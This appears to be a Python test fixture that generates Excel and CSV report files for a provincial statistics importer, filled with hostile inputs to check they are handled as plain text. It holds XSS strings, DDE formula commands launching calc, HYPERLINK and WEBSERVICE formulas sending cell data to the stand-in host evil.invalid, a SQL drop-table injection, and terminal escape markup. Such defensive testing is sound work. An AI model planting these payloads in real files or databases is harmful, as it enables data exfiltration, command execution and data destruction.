"""Files that want to be more than data: script, formulas, SQL, terminal escapes."""

from collections.abc import Iterator

from tests import workbooks

SCRIPT = "<script>alert('ipw')</script>"
IMAGE = "\"><img src=x onerror=alert('ipw')>"
FORMULA = '=HYPERLINK("http://evil.invalid/"&A1,"mở")'
COMMAND = "@SUM(1+1)*cmd|' /C calc'!A0"
WIDE = "＝1+1"
SQL = "'; drop table marts.annual_indicators; --"
MARKUP = "[/red][link=http://evil.invalid]x[/link]\x1b[31m"
PAYLOADS = (SCRIPT, IMAGE, FORMULA, COMMAND, WIDE, SQL, "-2+3+cmd|' /C calc'!A0")


def files() -> Iterator[tuple[str, bytes]]:
    """Reports on 2025 of Quảng Ninh and Hà Nội, by name."""
    yield f"{IMAGE.replace('/', '')}.xlsx", _workbook()
    yield "=cmd|' C calc'!A0.csv", _csv()
    yield f"{SQL} {MARKUP.replace('/', '')}.csv", _csv("01", "M")


def _workbook() -> bytes:
    cover = {
        "report_year": 2025,
        "locality_code": "22",
        "locality_name": "Quảng Ninh",
        "prepared_by": f"{SCRIPT} {IMAGE}",
        "contact": FORMULA,
        "form_version": SQL,
    }
    found = workbooks.book({}, year=2025, cover=cover)
    lines = {
        row[0].value: row
        for sheet in found.worksheets[1:]
        for row in sheet.iter_rows(min_row=4)
    }
    for code, text in zip(("B", "B1", "B2", "B3", "B4", "B5"), PAYLOADS, strict=False):
        lines[code][4].value = text
        # openpyxl takes a text that begins with "=" for a formula: this one is text.
        lines[code][4].data_type = "s"
    lines["E"][4].value = 7
    lines["E1"][4].value = '=1+WEBSERVICE("http://evil.invalid/")'
    sheet = lines["E"][0].parent
    sheet.cell(lines["E"][0].row, 6, f"{SCRIPT}{FORMULA}")
    sheet.title = "<b>=1+1"
    return workbooks.saved(found)


def _csv(code: str = "22", line: str = "L") -> bytes:
    quoted = ['"' + text.replace('"', '""') + '"' for text in PAYLOADS]
    rows = "".join(
        f"2025,{code},{line}{number or ''},{text},{quoted[0]}\n"
        for number, text in enumerate(quoted[:3])
    )
    return ("report_year,locality_code,line_code,value,prepared_by\n" + rows).encode()
